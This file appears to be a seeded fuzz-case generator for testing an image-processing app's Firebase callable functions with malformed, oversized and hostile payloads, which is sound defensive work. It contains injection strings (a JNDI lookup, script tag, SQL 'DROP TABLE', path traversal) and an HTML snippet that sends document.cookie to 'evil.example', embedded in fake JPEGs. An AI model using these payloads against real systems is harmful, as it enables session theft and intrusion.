/**
 * Seeded, structure-aware generators for callable payloads (issue 5, item 7).
 *
 * Every case is generated from (seed, index) alone: `generateCase(seed, i, corpus)` gives the same
 * payload on every run and machine, so a failure reproduces from the two numbers. Payloads are
 * produced in their *wire* form (what a client can put in the JSON body of a callable request,
 * including the `@type` Int64Value wrapper that the callable protocol decodes into numbers such as
 * Infinity), and `decodeWire` turns them into what the handler sees, as firebase-functions does.
 */
import { makeBombJpeg, makeBombPng, makeFaceImage, makeHeicHeader, NON_IMAGES, type FixtureFormat } from "../fixtures/images.js";
import { jobIdFor } from "../../src/jobs/jobId.js";

// ---------------------------------------------------------------- PRNG

export interface Rng {
  /** [0, 1) */
  next(): number;
  /** integer in [lo, hi] */
  int(lo: number, hi: number): number;
  pick<T>(items: readonly T[]): T;
  chance(p: number): boolean;
  /** picks a key of `weights` with probability proportional to its weight */
  weighted<K extends string>(weights: Record<K, number>): K;
}

/** mulberry32: tiny, fast, good enough for fuzzing, identical on every platform. */
export function mulberry32(seed: number): Rng {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const rng: Rng = {
    next,
    int: (lo, hi) => lo + Math.floor(next() * (hi - lo + 1)),
    pick: (items) => items[Math.floor(next() * items.length)]!,
    chance: (p) => next() < p,
    weighted(weights) {
      const entries = Object.entries(weights) as [never, number][];
      let r = next() * entries.reduce((n, [, w]) => n + w, 0);
      for (const [k, w] of entries) if ((r -= w) < 0) return k;
      return entries[entries.length - 1]![0];
    },
  };
  return rng;
}

/**
 * A per-case seed: (seed, index, stream) mixed so neighbouring cases are unrelated. The seed is
 * mixed on its own first: xored straight with the index, seeds s and s' gave the same cases
 * shifted (s ^ i === s' ^ j), so nearby seeds explored the same few thousand cases.
 */
export function subSeed(seed: number, index: number, stream = 0): number {
  let h = (seed ^ 0x9e3779b9) >>> 0;
  for (const v of [0, index, stream]) {
    h = Math.imul(h ^ v, 0x85ebca6b) >>> 0;
    h = Math.imul(h ^ (h >>> 13), 0xc2b2ae35) >>> 0;
    h = (h ^ (h >>> 16)) >>> 0;
  }
  return h;
}

// ---------------------------------------------------------------- corpus

export interface FaceSample {
  format: FixtureFormat;
  lossless: boolean;
  size: number;
  bytes: Buffer;
}

export interface ImageCorpus {
  faces: FaceSample[];
  bombs: { name: string; mime: string; bytes: Buffer }[];
  heic: Buffer[];
  nonImages: { name: string; bytes: Buffer }[];
}

/** Small, real images (≤ 128 px, so a decode costs milliseconds) and hostile headers, built once. */
export async function buildCorpus(): Promise<ImageCorpus> {
  const faces: FaceSample[] = [];
  for (const size of [8, 16, 48, 96, 128]) {
    for (const format of ["jpeg", "png", "webp"] as const) {
      faces.push({ format, lossless: false, size, bytes: await makeFaceImage({ width: size, height: size, format }) });
    }
    faces.push({ format: "webp", lossless: true, size, bytes: await makeFaceImage({ width: size, height: size, format: "webp", lossless: true }) });
  }
  // Non-square, so width and height are not interchangeable.
  faces.push({ format: "jpeg", lossless: false, size: 120, bytes: await makeFaceImage({ width: 120, height: 40, format: "jpeg" }) });
  const bombs = [
    { name: "png-100k", mime: "image/png", bytes: makeBombPng() },
    { name: "png-65535x1", mime: "image/png", bytes: makeBombPng(65_535 * 1000, 1) },
    { name: "png-2^31-1", mime: "image/png", bytes: makeBombPng(2 ** 31 - 1, 2 ** 31 - 1) },
    { name: "png-0x0", mime: "image/png", bytes: makeBombPng(0, 0) },
    { name: "jpeg-65000", mime: "image/jpeg", bytes: await makeBombJpeg() },
    { name: "jpeg-0-height", mime: "image/jpeg", bytes: await makeBombJpeg(64, 0) },
    // Under the 40 MP header cap, but nothing behind it: the decoder must refuse it cheaply.
    { name: "png-under-cap", mime: "image/png", bytes: makeBombPng(6_000, 6_000) },
    { name: "jpeg-under-cap", mime: "image/jpeg", bytes: await makeBombJpeg(6_000, 6_000) },
  ];
  const heic = [
    makeHeicHeader(640, 480),
    makeHeicHeader(100_000, 100_000),
    makeHeicHeader(320, 240, { majorBrand: "mif1", compatibleBrands: ["mif1", "avif"] }),
    makeHeicHeader(4000, 3000, { withThumbnail: true }),
  ];
  const nonImages = Object.entries(NON_IMAGES).map(([name, bytes]) => ({ name, bytes: Buffer.from(bytes) }));
  return { faces, bombs, heic, nonImages };
}

// ---------------------------------------------------------------- case model

export const CALLABLES = ["createJob", "getJobResult", "ackJobResult", "cancelJob"] as const;
export type CallableName = (typeof CALLABLES)[number];

/** The fuzz users; only their jobs and objects are checked after a run. */
export const FUZZ_UIDS = ["fuzz-alice", "fuzz-bob", "fuzz-carol"] as const;

/** An object to place at transient/uploads/{uid}/{uploadId} before the call (the uploadImage path). */
export interface PlantedUpload {
  uid: string;
  uploadId: string;
  bytes: Buffer;
  contentType: string;
  /** The uid recorded in the object's metadata (may lie). */
  metadataUid: string;
}

export interface FuzzCase {
  seed: number;
  index: number;
  fn: CallableName;
  /** undefined: no Firebase Auth on the request */
  uid: string | undefined;
  appCheck: boolean;
  /** The request body's `data`, JSON-safe, before the callable protocol decodes it. */
  wire: unknown;
  /** Run the same call this many times at once (a race); 1 normally. */
  parallel: number;
  upload?: PlantedUpload;
  /** For job-ref calls: the owner of the job the case refers to, when it refers to a fuzz job. */
  refOwner?: string;
  /** What the case is, for the report: "createJob/image:flip/mut:drop(style)" and so on. */
  tags: string[];
  /** Input that must never be echoed in a message or log. */
  secrets: { prompt?: string; base64?: string };
}

/** The cheap part of a case, derivable without generating it: who calls what with which requestId. */
export interface CaseHeader {
  fn: CallableName;
  uidIndex: number;
  requestId: string;
}

export function caseHeader(seed: number, index: number): CaseHeader {
  const rng = mulberry32(subSeed(seed, index, 1));
  const fn = rng.weighted({ createJob: 62, getJobResult: 13, ackJobResult: 10, cancelJob: 15 });
  return { fn, uidIndex: rng.int(0, FUZZ_UIDS.length - 1), requestId: uuidFrom(rng) };
}

/** The id of the job case `index` creates, when it is a createJob that gets that far. */
export function jobIdOfCase(seed: number, index: number): { jobId: string; uid: string } {
  const h = caseHeader(seed, index);
  const uid = FUZZ_UIDS[h.uidIndex]!;
  return { jobId: jobIdFor(uid, h.requestId), uid };
}

function uuidFrom(rng: Rng): string {
  const hex = (n: number) => Array.from({ length: n }, () => rng.int(0, 15).toString(16)).join("");
  return `${hex(8)}-${hex(4)}-4${hex(3)}-${rng.pick(["8", "9", "a", "b"])}${hex(3)}-${hex(12)}`;
}

// ---------------------------------------------------------------- leaf values

export const LONG_TYPE = "type.googleapis.com/google.protobuf.Int64Value";
/** A number the way the callable protocol carries one JSON cannot: decoded with parseFloat. */
const int64 = (value: string) => ({ "@type": LONG_TYPE, value });

const UNICODE_PIECES = [
  "\uD800", // lone high surrogate
  "\uDFFF", // lone low surrogate
  "\uDBFF\uDFFF",
  "\u202E", // RTL override
  "\u202D",
  "\u2066",
  "\u200B", // zero-width space
  "\u200D",
  "\uFEFF",
  "\u0000",
  "\u0007",
  "\u001b[31m",
  "\u2028",
  "\u2029",
  "\u0085",
  "\u00A0",
  "👩🏽‍🦱",
  "🏳️‍🌈",
  "e\u0301",
  "Z\u0334\u0321\u0322\u031b\u0317\u0353\u0344",
  "𝕏",
  "\uFFFD",
  "\uFFFF",
  "ｆｕｌｌ",
  "İ",
  "ß",
  "\t",
  "\n",
  "\r\n",
  "%s%n",
  "${jndi:ldap://x}",
  "<script>alert(1)</script>",
  "'; DROP TABLE jobs; --",
  "../../transient/",
  "\\u0000",
];

const PROTO_KEYS = ["__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__", "then"];

/** A distinctive token, so an echo of a generated string is recognisable. */
const token = (rng: Rng) =>
  `fz${Math.floor(rng.next() * 36 ** 6)
    .toString(36)
    .padStart(6, "0")}`;

function unicodeString(rng: Rng, pieces = rng.int(1, 6)): string {
  let s = "";
  for (let i = 0; i < pieces; i++) s += rng.chance(0.6) ? rng.pick(UNICODE_PIECES) : token(rng);
  return s;
}

/** 256 KB .. 8 MB (rarely 16 MB), cheap to build. */
function hugeString(rng: Rng): string {
  const size = rng.chance(0.1) ? 16 * 1024 * 1024 : rng.int(256 * 1024, 8 * 1024 * 1024);
  const unit = rng.pick(["A", "a", "é", "👍", "\u200B", "fz ", "/+=", "x\u0000"]);
  return unit.repeat(Math.ceil(size / unit.length));
}

function specialNumber(rng: Rng): unknown {
  return rng.pick<() => unknown>([
    () => int64("NaN"),
    () => int64("Infinity"),
    () => int64("-Infinity"),
    () => int64("1e400"),
    () => int64("-0"),
    () => int64("9007199254740993"),
    () => int64("0x10"),
    () => -0,
    () => 1e308,
    () => -1e308,
    () => 5e-324,
    () => 2 ** 53 + 1,
    () => -1,
    () => 0,
    () => 1.5,
    () => 4294967296,
  ])();
}

/**
 * Thousands of levels. firebase-functions decodes the body recursively before the handler runs, so
 * beyond a few thousand levels the protocol itself refuses it; most cases stay below that, so the
 * handler sees them, and some go far beyond it.
 */
function deepNest(rng: Rng, depth = rng.chance(0.8) ? rng.int(500, 2_500) : rng.int(50_000, 200_000)): unknown {
  const asArray = rng.chance(0.5);
  let v: unknown = rng.chance(0.5) ? token(rng) : null;
  for (let i = 0; i < depth; i++) v = asArray ? [v] : { a: v };
  return v;
}

/** An object whose own keys include prototype-pollution names (JSON.parse makes `__proto__` an own key). */
function protoObject(rng: Rng, inner: Record<string, unknown> = {}): Record<string, unknown> {
  const obj: Record<string, unknown> = { ...inner };
  const n = rng.int(1, 3);
  for (let i = 0; i < n; i++) {
    const key = rng.pick(PROTO_KEYS);
    const value = rng.chance(0.6) ? { polluted: true, isAdmin: true, uid: "fuzz-bob", status: "succeeded" } : anyValue(rng, 1);
    Object.defineProperty(obj, key, { value, enumerable: true, writable: true, configurable: true });
  }
  return obj;
}

/** Any JSON-ish value, biased towards the awkward ones. */
export function anyValue(rng: Rng, depth = 0): unknown {
  const kind = rng.weighted({
    null: 6,
    bool: 5,
    int: 5,
    special: 8,
    shortString: 8,
    emptyString: 3,
    unicode: 8,
    huge: depth === 0 ? 2 : 0,
    array: depth < 3 ? 6 : 0,
    object: depth < 3 ? 6 : 0,
    proto: depth < 2 ? 3 : 0,
    deep: depth === 0 ? 2 : 0,
    bigArray: depth === 0 ? 1 : 0,
  });
  switch (kind) {
    case "null":
      return null;
    case "bool":
      return rng.chance(0.5);
    case "int":
      return rng.int(-1_000_000, 1_000_000);
    case "special":
      return specialNumber(rng);
    case "shortString":
      return token(rng);
    case "emptyString":
      return rng.pick(["", " ", "\t", "\u200B"]);
    case "unicode":
      return unicodeString(rng);
    case "huge":
      return hugeString(rng);
    case "array":
      return Array.from({ length: rng.int(0, 4) }, () => anyValue(rng, depth + 1));
    case "object":
      return Object.fromEntries(Array.from({ length: rng.int(0, 4) }, () => [rng.chance(0.3) ? unicodeString(rng, 2) : token(rng), anyValue(rng, depth + 1)]));
    case "proto":
      return protoObject(rng);
    case "deep":
      return deepNest(rng);
    case "bigArray":
      return new Array(rng.int(10_000, 200_000)).fill(rng.chance(0.5) ? 0 : "a");
  }
}

// ---------------------------------------------------------------- images

const b64 = (bytes: Uint8Array) => Buffer.from(bytes).toString("base64");

const MIME_LIES = [
  "image/jpeg",
  "image/png",
  "image/webp",
  "image/heic",
  "image/heif",
  "image/jpg",
  "IMAGE/JPEG",
  "image/jpeg; charset=utf-8",
  " image/png ",
  "image/gif",
  "image/svg+xml",
  "image/avif",
  "text/html",
  "application/octet-stream",
  "application/zip",
  "",
  "image/",
  "image/jpeg\u0000",
  "image/\u202Egepj",
  "image/*",
  ";",
  "image/png;image/jpeg",
];

const trueMime = (f: FaceSample) => `image/${f.format}`;

function mutateBytes(rng: Rng, src: Buffer, op: string): Buffer {
  const out = Buffer.from(src);
  switch (op) {
    case "flip": {
      // Mostly past the headers, so structure survives and the decoder gets to see the damage.
      const n = rng.int(1, 12);
      const from = rng.chance(0.7) ? Math.min(out.length - 1, 64) : 0;
      for (let i = 0; i < n; i++) out[rng.int(from, out.length - 1)] ^= 1 << rng.int(0, 7);
      return out;
    }
    case "truncate":
      return out.subarray(0, rng.int(0, out.length - 1));
    case "insert": {
      const at = rng.int(0, out.length);
      const junk = Buffer.from(Array.from({ length: rng.int(1, 64) }, () => rng.int(0, 255)));
      return Buffer.concat([out.subarray(0, at), junk, out.subarray(at)]);
    }
    case "delete": {
      const at = rng.int(0, out.length - 1);
      return Buffer.concat([out.subarray(0, at), out.subarray(Math.min(out.length, at + rng.int(1, 64)))]);
    }
    case "duplicate": {
      const at = rng.int(0, out.length - 1);
      const chunk = out.subarray(at, at + rng.int(1, 256));
      return Buffer.concat([out.subarray(0, at), chunk, chunk, out.subarray(at + chunk.length)]);
    }
    case "zero-pad":
      return Buffer.concat([out, Buffer.alloc(rng.int(1, 4096))]);
    default:
      throw new Error(`unknown byte mutation ${op}`);
  }
}

const JPEG_HEADER = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]);
const HTML = Buffer.from('<!DOCTYPE html><html><body><script>fetch("https://evil.example/"+document.cookie)</script></body></html>');

export interface ImageChoice {
  image: unknown;
  tag: string;
  upload?: Omit<PlantedUpload, "uid">;
}

/** An `image` field: mostly something image-like and broken in one interesting way. */
export function genImage(rng: Rng, corpus: ImageCorpus): ImageChoice {
  const face = rng.pick(corpus.faces);
  const kind = rng.weighted({
    valid: 30,
    alias: 6,
    lying: 8,
    flip: 10,
    truncate: 7,
    insert: 5,
    delete: 4,
    duplicate: 3,
    "zero-pad": 2,
    "jpeg-html": 3,
    "png-zip": 3,
    "jpeg-trailing-html": 3,
    "html-jpeg": 2,
    "webp-riff-lie": 2,
    bomb: 6,
    heic: 3,
    "non-image": 4,
    "bad-base64": 5,
    empty: 2,
    "huge-base64": 1,
    "big-random": 1,
    upload: 6,
  });
  const asImage = (bytes: Uint8Array, mime = trueMime(face)) => ({ base64: b64(bytes), mimeType: mime });
  switch (kind) {
    case "valid":
      return { image: asImage(face.bytes), tag: `valid-${face.format}${face.lossless ? "-lossless" : ""}-${face.size}` };
    case "alias":
      return {
        image: asImage(
          face.bytes,
          face.format === "jpeg" ? rng.pick(["image/jpg", "IMAGE/JPEG", "image/jpeg; q=1", " image/jpeg"]) : `${trueMime(face).toUpperCase()};x=y`,
        ),
        tag: "alias-mime",
      };
    case "lying":
      return { image: asImage(face.bytes, rng.pick(MIME_LIES)), tag: `lying-mime-${face.format}` };
    case "flip":
    case "truncate":
    case "insert":
    case "delete":
    case "duplicate":
    case "zero-pad":
      return { image: asImage(mutateBytes(rng, face.bytes, kind)), tag: `${kind}-${face.format}` };
    case "jpeg-html":
      return { image: asImage(Buffer.concat([JPEG_HEADER, HTML]), "image/jpeg"), tag: kind };
    case "png-zip": {
      const png = corpus.faces.find((f) => f.format === "png" && f.size === 48)!.bytes;
      return { image: asImage(Buffer.concat([png, NON_IMAGES.zip]), "image/png"), tag: kind };
    }
    case "jpeg-trailing-html": {
      const jpeg = corpus.faces.find((f) => f.format === "jpeg" && f.size === 48)!.bytes;
      return { image: asImage(Buffer.concat([jpeg, HTML]), "image/jpeg"), tag: kind };
    }
    case "html-jpeg": {
      const jpeg = corpus.faces.find((f) => f.format === "jpeg" && f.size === 16)!.bytes;
      return { image: asImage(Buffer.concat([HTML, jpeg]), "image/jpeg"), tag: kind };
    }
    case "webp-riff-lie": {
      const webp = Buffer.from(corpus.faces.find((f) => f.format === "webp" && f.size === 48)!.bytes);
      webp.writeUInt32LE(rng.pick([0, 1, 0xffffffff, webp.length * 4]), 4);
      return { image: asImage(webp, "image/webp"), tag: kind };
    }
    case "bomb": {
      const bomb = rng.pick(corpus.bombs);
      return { image: asImage(bomb.bytes, rng.chance(0.8) ? bomb.mime : rng.pick(MIME_LIES)), tag: `bomb-${bomb.name}` };
    }
    case "heic":
      return { image: asImage(rng.pick(corpus.heic), rng.pick(["image/heic", "image/heif", "image/jpeg"])), tag: "heic" };
    case "non-image": {
      const n = rng.pick(corpus.nonImages);
      return { image: asImage(n.bytes, rng.pick(MIME_LIES)), tag: `non-image-${n.name}` };
    }
    case "bad-base64": {
      const good = b64(face.bytes);
      const bad = rng.pick<() => string>([
        () => good.slice(0, -1),
        () => good.replace(/\+/g, "-").replace(/\//g, "_"),
        () => `data:image/jpeg;base64,${good}`,
        () => good.slice(0, 40) + "\n" + good.slice(40),
        () => good.slice(0, 12) + " " + good.slice(12),
        () => "====",
        () => "A===",
        () => good + "====",
        () => unicodeString(rng) + good,
        () => "!!not base64!!",
        () => "\u0000".repeat(8),
      ])();
      return { image: { base64: bad, mimeType: trueMime(face) }, tag: "bad-base64" };
    }
    case "empty":
      return {
        image: rng.pick([{ base64: "", mimeType: "image/jpeg" }, { base64: "AAAA", mimeType: "image/jpeg" }, {}, { mimeType: "image/png" }]),
        tag: "empty",
      };
    case "huge-base64":
      // Over the 15 MB cap by a few characters: refused by the schema, never decoded.
      return { image: { base64: "A".repeat(Math.ceil(15_000_000 / 3) * 4 + 4 * rng.int(1, 4)), mimeType: "image/jpeg" }, tag: kind };
    case "big-random": {
      // A few MB behind a JPEG header: base64-decoded and sniffed, then refused (no EOI).
      const body = Buffer.alloc(rng.int(1, 4) * 1024 * 1024, rng.int(0, 255));
      return { image: asImage(Buffer.concat([JPEG_HEADER, body]), "image/jpeg"), tag: kind };
    }
    case "upload": {
      const uploadId = `${token(rng)}${token(rng)}`; // 16 characters of [a-z0-9]
      const bytes = rng.chance(0.6) ? face.bytes : mutateBytes(rng, face.bytes, rng.pick(["flip", "truncate", "insert"]));
      // Only what can arrive in a Content-Type header (the emulator's own server throws on the rest).
      const contentType = rng.chance(0.5) ? trueMime(face) : rng.pick(MIME_LIES.filter((m) => /^[\x20-\x7e]*$/.test(m)));
      return { image: { uploadId }, tag: "upload", upload: { uploadId, bytes, contentType, metadataUid: "" } };
    }
  }
}

// ---------------------------------------------------------------- createJob

const FEATURE_WEIGHTS = { style: 30, edit: 25, enhance: 12, cutout: 13, video: 8, bogus: 2 };
const STYLES = ["noir", "sepia", "vivid", "warm", "cool", "sketch", "pop-art", "vintage"];
const EDIT_WORDS = [
  "brighter",
  "darker",
  "black and white",
  "warmer",
  "cooler",
  "sharper",
  "more contrast",
  "vivid",
  "sepia",
  "vintage",
  "noir",
  "sketch",
  "pop art",
  "denoise",
];

export function genPrompt(rng: Rng): string {
  const kind = rng.weighted({ plain: 55, unicode: 20, overlong: 6, exactCap: 3, blank: 3, control: 6, huge: 2, unknown: 5 });
  const words = Array.from({ length: rng.int(1, 3) }, () => rng.pick(EDIT_WORDS)).join(" and ");
  // A distinctive tail, so an echo of the prompt in a message or log is recognisable.
  const tail = `${token(rng)} ${token(rng)}`;
  switch (kind) {
    case "plain":
      return `make it ${words} please ${tail}`;
    case "unicode":
      return `${unicodeString(rng, 2)} make it ${words} ${unicodeString(rng)} ${tail}`;
    case "overlong":
      return `${words} ${tail} `.repeat(Math.ceil(2_001 / (words.length + tail.length + 2)) + rng.int(0, 50));
    case "exactCap":
      return `${words} ${tail} ${"👍".repeat(1_000)}`.slice(0, 2_000);
    case "blank":
      return rng.pick(["", "   ", "\n\t", "\u200B"]);
    case "control":
      return `${words} ${tail} ${rng.pick(["\u0000", "\u001b[2J", "\u0008", "\u007f", "\u2028", "\u0085"])} ${token(rng)}`;
    case "huge":
      return `${words} ${tail} ${hugeString(rng)}`;
    case "unknown":
      return `turn me into a dragon ${tail}`;
  }
}

/** A createJob payload that would succeed, before mutation. */
function validCreate(rng: Rng, corpus: ImageCorpus, header: CaseHeader, tags: string[]) {
  const feature = rng.weighted(FEATURE_WEIGHTS);
  const img = genImage(rng, corpus);
  tags.push(`feature:${feature}`, `image:${img.tag}`);
  const payload: Record<string, unknown> = {
    requestId: header.requestId,
    feature: feature === "bogus" ? rng.pick(["paint", "STYLE", "style ", ""]) : feature,
    image: img.image,
    consent: { faceDataProcessing: true, policyVersion: rng.pick(["2026-11", "v1", "x".repeat(40)]) },
  };
  if (feature === "style" || rng.chance(0.05))
    payload.style = rng.chance(0.9) ? rng.pick(STYLES) : rng.pick(["no-such-preset", "NOIR", "noir\u200B", "constructor", "__proto__", "toString"]);
  if (feature === "edit" || feature === "video" || rng.chance(0.05)) payload.prompt = genPrompt(rng);
  if (rng.chance(0.1)) payload.provider = rng.pick(["local", "local", "openai", "acme", "LOCAL", "constructor", "__proto__"]);
  if (rng.chance(0.08))
    payload.model = rng.pick(["local-effects-1", "local-cutout-1", "local-kenburns-1", "gpt-9000", "a".repeat(100), "../x", "local effects"]);
  if (rng.chance(0.12)) payload.options = genOptions(rng);
  return { payload, upload: img.upload };
}

function genOptions(rng: Rng): unknown {
  const n = rng.int(0, 24);
  const options: Record<string, unknown> = {};
  for (let i = 0; i < n; i++) {
    const key = rng.weighted({ good: 6, proto: 2, unicode: 1, long: 1, digit: 1 });
    const k =
      key === "good"
        ? `opt${token(rng)}`
        : key === "proto"
          ? rng.pick(PROTO_KEYS)
          : key === "unicode"
            ? unicodeString(rng, 2)
            : key === "long"
              ? "k" + "x".repeat(rng.int(40, 200))
              : `${rng.int(0, 9)}abc`;
    const v = rng.chance(0.7) ? rng.pick<unknown>([token(rng), rng.int(-5, 5), rng.chance(0.5), "x".repeat(201)]) : anyValue(rng, 2);
    Object.defineProperty(options, k, { value: v, enumerable: true, writable: true, configurable: true });
  }
  return options;
}

/** Structural mutations of an object payload; returns the (possibly replaced) payload. */
function mutateObject(rng: Rng, payload: Record<string, unknown>, fields: readonly string[], tags: string[], where: string): unknown {
  const op = rng.weighted({ drop: 14, extra: 8, wrongType: 20, arrayWrap: 4, huge: 5, deep: 4, unicode: 8, number: 6, proto: 6, null: 3, primitive: 2 });
  const field = rng.pick(fields);
  tags.push(`mut:${where}${op}(${op === "extra" || op === "proto" || op === "primitive" || op === "arrayWrap" ? "" : field})`);
  switch (op) {
    case "drop":
      delete payload[field];
      return payload;
    case "extra": {
      const key = rng.pick(["surprise", "uid", "status", "jobId", "url", "admin", token(rng), unicodeString(rng, 1), ""]);
      payload[key] = anyValue(rng, 1);
      return payload;
    }
    case "wrongType":
      payload[field] = anyValue(rng, 1);
      return payload;
    case "arrayWrap":
      return rng.chance(0.5) ? [payload] : Object.values(payload);
    case "huge":
      payload[field] = hugeString(rng);
      return payload;
    case "deep":
      payload[field] = deepNest(rng);
      return payload;
    case "unicode":
      payload[field] = typeof payload[field] === "string" && rng.chance(0.7) ? insertUnicode(rng, payload[field] as string) : unicodeString(rng);
      return payload;
    case "number":
      payload[field] = specialNumber(rng);
      return payload;
    case "proto":
      return protoObject(rng, payload);
    case "null":
      payload[field] = null;
      return payload;
    case "primitive":
      return rng.pick<unknown>([null, "just a string", 42, true, [], int64("Infinity")]);
  }
}

function insertUnicode(rng: Rng, s: string): string {
  const at = rng.int(0, s.length);
  return s.slice(0, at) + rng.pick(UNICODE_PIECES) + s.slice(at);
}

const CREATE_FIELDS = ["requestId", "feature", "image", "consent", "style", "prompt", "provider", "model", "options"] as const;

function genCreateJob(rng: Rng, seed: number, index: number, corpus: ImageCorpus, header: CaseHeader, tags: string[]) {
  const { payload, upload } = validCreate(rng, corpus, header, tags);
  let wire: unknown = payload;
  const mutations = rng.weighted({ 0: 35, 1: 37, 2: 16, 3: 12 });
  for (let m = 0; m < Number(mutations); m++) {
    if (wire === null || typeof wire !== "object" || Array.isArray(wire)) break;
    const target = rng.weighted({ top: 6, image: 2, consent: 1 });
    const obj = wire as Record<string, unknown>;
    const inner = obj[target];
    if (target !== "top" && inner && typeof inner === "object" && !Array.isArray(inner)) {
      const fields = target === "image" ? ["base64", "mimeType", "uploadId"] : ["faceDataProcessing", "policyVersion"];
      obj[target] = mutateObject(rng, inner as Record<string, unknown>, fields, tags, `${target}.`);
    } else {
      wire = mutateObject(rng, obj, CREATE_FIELDS, tags, "");
    }
  }
  // A replay of an earlier case's requestId: the same job, maybe a different payload.
  if (index > 0 && rng.chance(0.04) && wire && typeof wire === "object" && !Array.isArray(wire)) {
    const earlier = caseHeader(seed, rng.int(Math.max(0, index - 30), index - 1));
    (wire as Record<string, unknown>).requestId = earlier.requestId;
    tags.push("replayed-requestId");
  }
  const secrets = secretsIn(wire);
  return { wire, upload, secrets };
}

function secretsIn(wire: unknown): FuzzCase["secrets"] {
  const obj = wire && typeof wire === "object" && !Array.isArray(wire) ? (wire as Record<string, unknown>) : {};
  const image = obj.image && typeof obj.image === "object" ? (obj.image as Record<string, unknown>) : {};
  return {
    ...(typeof obj.prompt === "string" && { prompt: obj.prompt }),
    ...(typeof image.base64 === "string" && { base64: image.base64 }),
  };
}

// ---------------------------------------------------------------- job refs

function genJobRef(rng: Rng, seed: number, index: number, caller: string | undefined, tags: string[]): { wire: unknown; refOwner?: string } {
  let jobId: string;
  let refOwner: string | undefined;
  const source = rng.weighted({ earlier: 70, random: 10, weird: 20 });
  if (source === "earlier" && index > 0) {
    // A job some earlier case created (or tried to): its owner may or may not be the caller.
    let j = -1;
    for (let tries = 0; tries < 12 && j < 0; tries++) {
      const k = rng.int(Math.max(0, index - 60), index - 1);
      if (caseHeader(seed, k).fn === "createJob") j = k;
    }
    const ref = jobIdOfCase(seed, Math.max(0, j));
    jobId = ref.jobId;
    refOwner = ref.uid;
    tags.push(refOwner === caller ? "ref:own" : "ref:other-user");
  } else if (source === "weird") {
    jobId = rng.pick<() => string>([
      () => "A".repeat(40),
      () => "a".repeat(39),
      () => "a".repeat(41),
      () => "../jobs/" + "a".repeat(32),
      () => "a".repeat(20) + "/" + "a".repeat(19),
      () => unicodeString(rng),
      () => "",
      () => hugeString(rng),
      () => jobIdOfCase(seed, Math.max(0, index - 1)).jobId.toUpperCase(),
      () => jobIdOfCase(seed, Math.max(0, index - 1)).jobId + "\u0000",
    ])();
    tags.push("ref:weird");
  } else {
    jobId = Array.from({ length: 40 }, () => rng.int(0, 15).toString(16)).join("");
    tags.push("ref:random");
  }
  let wire: unknown = { jobId };
  if (rng.chance(0.35)) wire = mutateObject(rng, wire as Record<string, unknown>, ["jobId"], tags, "");
  return { wire, ...(refOwner && { refOwner }) };
}

// ---------------------------------------------------------------- cases

export function generateCase(seed: number, index: number, corpus: ImageCorpus): FuzzCase {
  const header = caseHeader(seed, index);
  const rng = mulberry32(subSeed(seed, index, 2));
  const owner = FUZZ_UIDS[header.uidIndex]!;
  const auth = rng.weighted({ owner: 92, none: 4, noAppCheck: 4 });
  const uid = auth === "none" ? undefined : owner;
  const tags: string[] = [header.fn];
  if (auth !== "owner") tags.push(`auth:${auth}`);
  const base = { seed, index, fn: header.fn, uid, appCheck: auth !== "noAppCheck", parallel: rng.chance(0.03) ? rng.int(2, 4) : 1 };
  if (base.parallel > 1) tags.push(`parallel:${base.parallel}`);

  if (header.fn === "createJob") {
    const { wire, upload, secrets } = genCreateJob(rng, seed, index, corpus, header, tags);
    let planted: PlantedUpload | undefined;
    if (upload) {
      // Usually the caller's own upload; sometimes someone else's (the id is right, the owner is not).
      const other = FUZZ_UIDS[(header.uidIndex + 1) % FUZZ_UIDS.length]!;
      const placement = rng.weighted({ own: 75, otherUsersPath: 10, lyingMetadata: 10, missing: 5 });
      if (placement !== "missing") {
        planted = {
          ...upload,
          uid: placement === "otherUsersPath" ? other : owner,
          metadataUid: placement === "lyingMetadata" ? other : placement === "otherUsersPath" ? other : owner,
        };
      }
      tags.push(`upload:${placement}`);
    }
    return { ...base, wire, ...(planted && { upload: planted }), tags, secrets };
  }
  const { wire, refOwner } = genJobRef(rng, seed, index, uid, tags);
  return { ...base, wire, ...(refOwner && { refOwner }), tags, secrets: {} };
}

/**
 * What firebase-functions does with the request body's `data` before the handler sees it
 * (`decode` in firebase-functions 7.4 lib/common/providers/https.js, which is not exported):
 * Int64Value wrappers become numbers (parseFloat; NaN is refused), everything else is copied with
 * plain assignment, so an own `__proto__` key sets the copy's prototype, as it does in production.
 */
export function decodeWire(data: unknown): unknown {
  if (data === null) return data;
  const obj = data as Record<string, unknown>;
  if (typeof data === "object" && obj["@type"]) {
    if (obj["@type"] === LONG_TYPE || obj["@type"] === "type.googleapis.com/google.protobuf.UInt64Value") {
      const value = parseFloat(obj.value as string);
      if (isNaN(value)) throw new WireDecodeError();
      return value;
    }
    throw new WireDecodeError();
  }
  if (Array.isArray(data)) return data.map(decodeWire);
  if (typeof data === "object") {
    const out: Record<string, unknown> = {};
    for (const [k, v] of Object.entries(obj)) out[k] = decodeWire(v);
    return out;
  }
  return data;
}

/** The callable protocol itself refuses the body (firebase-functions answers before any handler runs). */
export class WireDecodeError extends Error {
  constructor() {
    super("the callable protocol cannot decode this body");
    this.name = "WireDecodeError";
  }
}
